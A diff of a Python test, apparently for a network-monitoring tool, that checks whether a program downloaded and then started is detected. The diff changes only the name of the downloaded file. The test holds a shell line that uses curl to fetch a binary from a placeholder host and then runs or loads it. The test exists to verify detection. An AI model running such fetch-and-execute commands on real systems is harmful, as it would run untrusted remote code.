@@ -203,7 +203,7 @@ def test_git_may_push(net: Net, tmp_path: Path) -> None:
 )
 def test_a_program_that_is_started_or_loaded_is_seen(net: Net, tmp_path: Path, how: str) -> None:
     host = f"{'a' if 'chmod' in how else 'b'}.programs.example"
-    done = net.run("sh", "-c", f"cd {tmp_path}; curl -s http://{host}/addon.node -o p; {how}")
+    done = net.run("sh", "-c", f"cd {tmp_path}; curl -s http://{host}/addon.elf -o p; {how}")
     assert done.returncode == 0, done.stderr
     given = net.heard(lambda s: s.token and s.name == host)
     assert net.heard(lambda s: s.ran == given.token)
